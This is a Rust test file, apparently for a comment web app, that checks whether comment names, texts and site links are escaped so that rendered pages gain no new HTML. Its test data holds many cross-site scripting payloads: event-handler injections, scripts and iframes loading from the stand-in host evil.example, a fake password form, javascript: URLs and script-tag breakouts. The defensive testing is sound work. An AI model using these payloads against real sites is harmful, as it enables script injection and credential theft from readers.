//! Comments that want to be more than text. Each page is read with html5gum, which finds tags and attributes where a browser
//! finds them; it is compared with the page of a harmless comment, which has to have the same ones. It does not run scripts.

use html5gum::{DefaultEmitter, Token, Tokenizer};
use kit::*;
use serde_json::{Value, json};

/// The comment that does no harm; the others differ from it in one field.
const NAME: &str = "nameOfAnn";
const TEXT: &str = "textOfAnn";
const SITE: &str = "https://ann.example/";

/// What a browser makes of a page, in order.
#[derive(Clone, Debug, PartialEq)]
enum Piece {
    Open {
        name: String,
        attributes: Vec<(String, String)>,
    },
    Close(String),
    Text(String),
    Remark,
}

fn text_of(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Reads HTML as a browser does.
fn read(page: &str) -> Vec<Piece> {
    let mut emitter = DefaultEmitter::default();
    // After <script> and <title> other rules hold until they are closed.
    emitter.naively_switch_states(true);
    let piece = |token: Token| match token {
        Token::StartTag(tag) => Some(Piece::Open {
            name: text_of(&tag.name),
            attributes: tag
                .attributes
                .iter()
                .map(|(name, value)| (text_of(name), text_of(value)))
                .collect(),
        }),
        Token::EndTag(tag) => Some(Piece::Close(text_of(&tag.name))),
        Token::String(text) => Some(Piece::Text(text_of(&text))),
        Token::Comment(_) => Some(Piece::Remark),
        Token::Doctype(_) | Token::Error(_) => None,
    };
    let tokens = Tokenizer::new_with_emitter(page, emitter);
    tokens.flatten().filter_map(piece).collect()
}

/// Writes a comment, and gives its place.
fn write(name: &str, site: &str, text: &str) -> String {
    let body = json!({ "name": name, "site": site, "text": text }).to_string();
    let headers = [("Content-Type", "application/json")];
    let answer = server().send("POST", "/comments", &headers, &body);
    assert_eq!(answer.status, 201, "POST /comments with {body}");
    let place = answer.header("Location").map(str::to_owned);
    place.unwrap_or_else(|| unexpected("POST /comments", "a header Location", "none"))
}

/// The page of a comment.
fn page(name: &str, site: &str, text: &str) -> Vec<Piece> {
    let place = write(name, site, text);
    let answer = server().get(&place);
    assert_eq!(answer.status, 200, "GET {place}");
    read(&answer.body)
}

fn harmless() -> Vec<Piece> {
    page(NAME, SITE, TEXT)
}

/// What is done with the harmless page to have the one that is expected: in each place, the payload stands for the word.
fn put(word: &str, payload: &str, pieces: &[Piece]) -> Vec<Piece> {
    let changed = |text: &str| text.replace(word, payload);
    let change = |piece: &Piece| match piece {
        Piece::Text(text) => Piece::Text(changed(text)),
        Piece::Open { name, attributes } => {
            let attributes = attributes.iter();
            Piece::Open {
                name: name.clone(),
                attributes: attributes
                    .map(|(name, value)| (name.clone(), changed(value)))
                    .collect(),
            }
        }
        other => other.clone(),
    };
    pieces.iter().map(change).collect()
}

/// How a browser would see one piece, as HTML.
fn shown(piece: &Piece) -> String {
    match piece {
        Piece::Open { name, attributes } => {
            let attributes = attributes.iter();
            let words: Vec<String> = attributes
                .map(|(name, value)| format!(" {name}=\"{value}\""))
                .collect();
            format!("<{name}{}>", words.concat())
        }
        Piece::Close(name) => format!("</{name}>"),
        Piece::Text(text) => format!("{:?}", text.trim()),
        Piece::Remark => "<!-- -->".to_owned(),
    }
}

/// The scheme of a link as a browser finds it: it passes over blanks and signs that nobody sees.
fn scheme(href: &str) -> Option<String> {
    let start = href.trim_start_matches(|sign: char| sign <= ' ');
    let kept: String = start
        .chars()
        .filter(|sign| !"\t\r\n".contains(*sign))
        .collect();
    let (scheme, _) = kept.split_once(':')?;
    let is_name = scheme.starts_with(|sign: char| sign.is_ascii_alphabetic())
        && scheme
            .chars()
            .all(|sign| sign.is_ascii_alphanumeric() || "+-.".contains(sign));
    is_name.then(|| scheme.to_ascii_lowercase())
}

/// What an element does for the stranger who has brought it into the page.
fn consequence(name: &str, attributes: &[(String, String)]) -> String {
    if let Some((event, code)) = attributes.iter().find(|(name, _)| name.starts_with("on")) {
        return format!("at {event} the browser runs {code}, in the name of the reader");
    }
    let told = match name {
        "script" => "the browser runs it, in the name of the reader",
        "iframe" => "somebody else's page is shown inside of yours",
        "form" | "input" => {
            "your readers are asked for what the stranger wants, and send it to the stranger"
        }
        "base" => "from here on your links lead to the stranger",
        "meta" => "the browser leaves your page, and goes where the stranger wants it",
        "a" => "a link of the stranger's, which may run a script",
        _ => "the stranger decides what your page is made of",
    };
    told.to_owned()
}

/// The first place where two pages have other elements or attributes, in words.
fn other_elements(expected: &[Piece], got: &[Piece]) -> Option<String> {
    let names = |attributes: &[(String, String)]| -> Vec<String> {
        attributes.iter().map(|(name, _)| name.clone()).collect()
    };
    // Text has no part in this: where it goes on, and where it ends, follows from the rest.
    let is_element = |piece: &&Piece| !matches!(piece, Piece::Text(_));
    let (mut expected, mut got) = (
        expected.iter().filter(is_element),
        got.iter().filter(is_element),
    );
    loop {
        return Some(match (expected.next(), got.next()) {
            (None, None) => return None,
            (Some(wanted), None) => format!(
                "your {} is no longer seen as one: everything there belongs to something that the comment has begun",
                shown(wanted)
            ),
            (
                Some(Piece::Open { name, attributes }),
                Some(Piece::Open {
                    name: found,
                    attributes: of_found,
                }),
            ) if name == found => {
                let (before, now) = (names(attributes), names(of_found));
                if before == now {
                    continue;
                }
                let new: Vec<(String, String)> = of_found
                    .iter()
                    .filter(|(name, _)| !before.contains(name))
                    .cloned()
                    .collect();
                let list: Vec<String> = new.iter().map(|(name, _)| name.clone()).collect();
                format!(
                    "your <{name}> has new attributes, {}: {}",
                    list.join(", "),
                    consequence("", &new)
                )
            }
            (Some(Piece::Close(name)), Some(Piece::Close(found))) if name == found => continue,
            (_, Some(found @ Piece::Open { name, attributes })) => {
                format!(
                    "a new element {}: {}",
                    shown(found),
                    consequence(name, attributes)
                )
            }
            (_, Some(Piece::Close(name))) => {
                format!(
                    "the comment closes an element, </{name}>, and what follows is outside of it"
                )
            }
            (_, Some(_)) => "an HTML comment <!-- begins: what follows is not shown".to_owned(),
        });
    }
}

/// Each page with a payload in one field has to have the elements of the harmless one.
fn expect_text(field: &str, payloads: &[&str]) {
    let harmless = harmless();
    for payload in payloads {
        let got = match field {
            "name" => page(payload, SITE, TEXT),
            _ => page(NAME, SITE, payload),
        };
        if let Some(found) = other_elements(&harmless, &got) {
            unexpected(
                &format!("the page of a comment with the {field}  {payload}"),
                "readers see these signs; no element and no attribute comes of them",
                &found,
            );
        }
    }
}

#[test]
fn text_stays_text() {
    explain(
        "A browser reads `<` with a letter or `/` or `!` after it as the beginning of a tag, whoever has written it. Written as an entity it is a sign to look at.",
    );
    let payloads = [
        "<img src=x onerror=alert(1)>",
        "<script src=//evil.example/x.js>",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<scr<script>ipt src=//evil.example/x.js>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "</p><iframe src=//evil.example>",
        "<form action=//evil.example>Your password: <input name=password>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<a href=javascript:alert(1)>look",
        "<b>loud",
        "</article>",
        "<!-- and the rest is gone",
        "<img src=x onerror=alert(1)//",
    ];
    expect_text("text", &payloads);
    expect_text("name", &payloads);
}

#[test]
fn a_name_stays_between_its_quotes() {
    explain(
        "Between the quotes of an attribute no tag can begin. What ends there is the attribute, at the first quote of its kind, and what follows is the next attribute. The page has quotes of both kinds.",
    );
    expect_text(
        "name",
        &[
            "\" onmouseover=\"alert(1)",
            "\" autofocus onfocus=alert(1) x=\"",
            "\"><img src=x onerror=alert(1)>",
            "' autofocus onfocus='alert(1)",
            "'onfocus=alert(1) x='",
            "'><svg/onload=alert(1)>",
        ],
    );
}

#[test]
fn readers_see_what_was_written() {
    explain(
        "Whoever writes about HTML wants to be read as well, and so does Ms O'Neil. Nothing is taken out of a comment, and each sign is escaped once: the browser undoes it once.",
    );
    let harmless = harmless();
    let words = [
        "if a < b && b > c",
        "Write <b> for bold, and </b> after it",
        "&lt; is written &amp;lt;",
        "O'Neil says \"hello\"",
        "Tom & Jerry &copy",
        "Zoë 漢字 🦀",
    ];
    for written in words {
        let pages = [
            ("text", TEXT, page(NAME, SITE, written)),
            ("name", NAME, page(written, SITE, TEXT)),
        ];
        for (field, word, got) in pages {
            let expected = put(word, written, &harmless);
            for (expected, got) in outside_of_scripts(&expected).zip(outside_of_scripts(&got)) {
                if expected != got {
                    unexpected(
                        &format!("the page of a comment with the {field}  {written}"),
                        &format!("a browser shows {}", shown(expected)),
                        &format!("it shows {}", shown(got)),
                    );
                }
            }
        }
    }
}

/// All pieces but what stands in a script: there other rules hold.
fn outside_of_scripts(pieces: &[Piece]) -> impl Iterator<Item = &Piece> {
    let mut in_script = false;
    pieces.iter().filter(move |piece| {
        let was = in_script;
        match piece {
            Piece::Open { name, .. } => in_script = name == "script",
            Piece::Close(_) => in_script = false,
            _ => {}
        }
        !was || !matches!(piece, Piece::Text(_))
    })
}

fn links(pieces: &[Piece]) -> Vec<String> {
    let href = |piece: &Piece| match piece {
        Piece::Open { name, attributes } if name == "a" => {
            let href = attributes.iter().find(|(name, _)| name == "href")?;
            Some(href.1.clone())
        }
        _ => None,
    };
    pieces.iter().filter_map(href).collect()
}

#[test]
fn a_site_is_a_link() {
    explain(
        "The value of href is an attribute like others: the browser undoes what you have escaped, and goes there.",
    );
    let sites = [
        "https://ann.example/",
        "http://ann.example:8080/a?x=1&y=2&lt=3#z",
    ];
    for site in sites {
        let got = links(&page(NAME, site, TEXT));
        let asked = format!("the links in the page of a comment with the site  {site}");
        if got != [site] {
            unexpected(&asked, &format!("one link to {site}"), &format!("{got:?}"));
        }
    }
}

#[test]
fn no_link_runs_a_script() {
    explain(
        "No escaping helps here: `javascript:` has no sign to escape in it, and a browser also takes it in capitals, after blanks, or with a tab in the middle. Ask for what is good, and not for what is bad.",
    );
    let sites = [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "java\tscript:alert(1)",
        "javascript:alert('http://ann.example')",
        "javascript://ann.example/%0aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ];
    for site in sites {
        for href in links(&page(NAME, site, TEXT)) {
            let told = match scheme(&href).as_deref() {
                None | Some("http" | "https") => continue,
                Some("javascript") => "a click on it runs the script, in the name of the reader",
                Some(_) => "it does not lead to a page of the web",
            };
            unexpected(
                &format!("the page of a comment with the site  {site:?}"),
                "no link",
                &format!("<a href={href:?}>: {told}"),
            );
        }
    }
}

#[test]
fn a_site_stays_between_its_quotes() {
    let harmless = harmless();
    for site in [
        "https://ann.example/\" onclick=\"alert(1)",
        "https://ann.example/\"><img src=x onerror=alert(1)>",
        "https://ann.example/' onclick='alert(1)",
    ] {
        let got = page(NAME, site, TEXT);
        if let Some(found) = other_elements(&harmless, &got) {
            unexpected(
                &format!("the page of a comment with the site  {site}"),
                "a link, and nothing else",
                &found,
            );
        }
    }
}

#[test]
fn the_app_gets_what_was_written() {
    explain(
        "Keep it as it came. The app, a mail, a search in the database: each place has its own rules, and in none of them `&lt;` is a `<`, but in HTML.",
    );
    for written in ["if a < b && b > c", "O'Neil says \"hello\"", "<b>loud</b>"] {
        let place = write(written, SITE, written);
        let answer = server().get(&format!("/api{place}"));
        let got: Value = serde_json::from_str(&answer.body).unwrap_or_default();
        for field in ["name", "text"] {
            if got[field] != *written {
                unexpected(
                    &format!("the {field} in GET /api{place}, which was written  {written}"),
                    written,
                    &got[field].to_string(),
                );
            }
        }
    }
}

#[test]
fn data_does_not_end_its_script() {
    explain(
        "A browser looks for the end of a script before it looks at the script: at the first `</script`, also in a string. And after `<!--` and `<script` it does not even stop there. All of these begin with one sign.",
    );
    expect_text(
        "text",
        &[
            "</script><script>alert(1)</script>",
            "</SCRIPT ><img src=x onerror=alert(1)>",
            "</script/><svg/onload=alert(1)>",
            "<!--<script>",
            "<!-- <SCRIPT ",
        ],
    );
}

/// The JSON in the script of a page.
fn data(pieces: &[Piece]) -> String {
    let mut pieces = pieces.iter();
    let is_script = |piece: &&Piece| matches!(piece, Piece::Open { name, .. } if name == "script");
    let script = pieces.find(is_script).and_then(|_| pieces.next());
    match script {
        Some(Piece::Text(text)) => {
            let from = text.find('{').unwrap_or(text.len());
            let to = text.rfind('}').map_or(from, |end| (end + 1).max(from));
            text[from..to].to_owned()
        }
        _ => String::new(),
    }
}

#[test]
fn the_script_gets_what_was_written() {
    explain(
        "In a script nobody undoes `&lt;`: the script sees four letters and a semicolon. It is JSON there, so write it as JSON does: `\\u003c` is a `<`, and no browser sees a tag in it.",
    );
    for written in [
        "if a < b && b > c",
        "</script> and <!--<script>",
        "O'Neil says \"hello\" & goes",
        "a \\ and a / and \u{2028}",
    ] {
        let found = data(&page(written, SITE, written));
        let got: Value = serde_json::from_str(&found).unwrap_or_default();
        for field in ["name", "text"] {
            if got[field] != *written {
                unexpected(
                    &format!(
                        "`comment.{field}` in the script of the page, which was written  {written}"
                    ),
                    &format!("{written:?}"),
                    &format!("`const comment = {found}`"),
                );
            }
        }
    }
}
